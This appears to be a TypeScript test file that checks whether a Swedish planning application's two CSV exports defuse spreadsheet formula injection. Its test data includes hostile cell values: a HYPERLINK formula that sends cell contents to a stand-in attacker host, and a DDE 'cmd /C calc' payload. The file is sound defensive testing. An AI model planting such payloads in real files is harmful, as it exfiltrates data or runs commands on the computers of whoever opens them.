import type { Express } from 'express';
import request from 'supertest';
import { spreadsheetCsv } from '../../src/reports/csv';
import { bearerFor, testApp, type TestUser } from '../support/api';
import { quietDueDate, thisYear } from '../support/calendar';
import { projected } from '../support/projected';
import { startTestStack, type TestStack } from '../support/stack';

const YEAR = thisYear();
const ORG = 'formler';
const COORD: TestUser = { id: 'f-samordnare', name: 'Fanny Samordnare', memberships: [{ orgId: ORG, roles: ['security-coordinator'] }] };

/**
 * Titles and names are what people typed, and a spreadsheet runs a cell that starts with =, +,
 * -, @, a tab or a carriage return as a formula. Both CSVs (Planöversikt's export and the
 * review's activity table) must hand such a cell over as text: a leading apostrophe (OWASP's
 * advice), the cell quoted when it holds a quote or a separator, so it cannot break out.
 */
const HOSTILE_TITLES = [
  '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
  '+SUM(1;1)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1;1)',
];
const HOSTILE_OWNER = '=1+1 Mallory';

/** RFC 4180 with semicolons, as a spreadsheet reads the file: quoted cells, doubled quotes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') endCell();
    else if (c === '\r' && body[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports and formula injection', () => {
  let stack: TestStack;
  let app: Express;
  let auth: string;

  beforeAll(async () => {
    stack = await startTestStack({ env: { DEV_LOGIN: 'true' } });
    app = testApp(stack);
    await stack.models.organisations.create({ _id: ORG, name: 'Formelförvaltningen', plan: { startYear: YEAR, endYear: YEAR + 2 }, areas: [{ id: 'ai', name: 'AI' }], goals: [], updatedAt: new Date() });
    auth = await bearerFor(stack.models, COORD);
    await stack.models.users.updateOne({ _id: COORD.id }, { $set: { demo: true } });
    // An owner is a member of the organisation; this one named themselves a formula.
    await bearerFor(stack.models, { id: 'f-mallory', name: HOSTILE_OWNER, memberships: [{ orgId: ORG, roles: ['it-coordinator'] }] });
    for (const [i, title] of HOSTILE_TITLES.entries()) {
      const created = await request(app)
        .post(`/api/v1/organisations/${ORG}/activities`)
        .set('authorization', auth)
        .send({ key: `formel-${i}`, year: YEAR, dueDate: quietDueDate(i), title, area: 'ai', owner: { role: 'it-coordinator' } })
        .expect(201);
      if (i === 0) await request(app).post(`/api/v1/activities/${created.body.id}/owner`).set('authorization', auth).send({ userId: 'f-mallory', name: HOSTILE_OWNER }).expect(200);
      await projected(stack, created.body.id, i === 0 ? 2 : 1);
    }
  });
  afterAll(() => stack?.close());

  /** Every cell that people wrote comes out as text, the same text behind an apostrophe. */
  function expectDefused(rows: string[][], titleColumn: number, ownerColumn: number) {
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    const titles = rows.map((r) => r[titleColumn]);
    for (const title of HOSTILE_TITLES) expect(titles).toContain(`'${title}`);
    expect(rows.map((r) => r[ownerColumn])).toContainEqual(expect.stringMatching(new RegExp(`^'${HOSTILE_OWNER.replace(/[+]/g, '\\+')} \\(`)));
  }

  it('Planöversikt’s CSV export escapes cells that a spreadsheet would run as formulas', async () => {
    const browser = request.agent(app);
    const login = await browser.get('/logga-in').expect(200);
    const csrf = /name="_csrf" value="([^"]+)"/.exec(login.text)![1]!;
    await browser.post('/logga-in/demo').type('form').send({ _csrf: csrf, userId: COORD.id }).expect(303);
    const res = await browser.get(`/planoversikt/export.csv?org=${ORG}`).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = readCsv(res.text);
    expect(rows[0]![0]).toBe('Aktivitet');
    expect(rows).toHaveLength(1 + HOSTILE_TITLES.length);
    expectDefused(rows, 0, 3);
  });

  it('the review’s CSV escapes them too', async () => {
    await request(app).post(`/api/v1/organisations/${ORG}/reviews/${YEAR}`).set('authorization', auth).send({}).expect(201);
    const res = await request(app).get(`/api/v1/organisations/${ORG}/reviews/${YEAR}/export/csv`).set('authorization', auth).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = readCsv(res.text);
    // The draft notice, the header, then one row per activity.
    expect(rows[1]).toEqual(['Aktivitet', 'Ansvarig', 'Slutdatum', 'Status', 'Godkännande']);
    expect(rows).toHaveLength(2 + HOSTILE_TITLES.length);
    expectDefused(rows, 0, 1);
  });

  it('escapes a leading tab or carriage return too, which no title keeps (titles are trimmed), and leaves numbers alone', () => {
    const rows = readCsv(spreadsheetCsv([['\tTabb', '\rVagnretur', 'vanlig text', -5, 'a;b"c']]));
    expect(rows).toEqual([["'\tTabb", "'\rVagnretur", 'vanlig text', '-5', 'a;b"c']]);
  });
});
